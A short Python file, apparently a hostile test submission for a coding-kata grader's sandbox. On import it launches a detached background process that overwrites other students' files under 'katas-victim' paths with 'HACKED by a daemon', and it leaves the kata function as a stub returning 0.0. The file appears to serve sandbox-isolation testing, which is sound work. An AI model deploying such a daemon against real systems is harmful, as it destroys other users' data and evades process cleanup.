# ruff: noqa
"""Attack 3: a detached process that outlives the grader and rewrites classmates' results
and files (only paths marked katas-victim, so a broken sandbox harms nothing else)."""

import subprocess
import sys

DAEMON = r"""
import os, time
end = time.time() + 25
while time.time() < end:
    for top in ("/tmp", os.path.expanduser("~")):
        for root, dirs, files in os.walk(top):
            if root.count(os.sep) > 7:
                dirs[:] = []
            if "katas-victim" not in root:
                continue
            for name in files:
                try:
                    with open(os.path.join(root, name), "w") as handle:
                        handle.write("HACKED by a daemon")
                except OSError:
                    pass
    time.sleep(0.5)
"""

subprocess.Popen(
    [sys.executable, "-c", DAEMON, "katas-hostile-daemon"],
    start_new_session=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)


async def two_sleepers(a: float = 10.0, b: float = 5.0) -> float:
    return 0.0
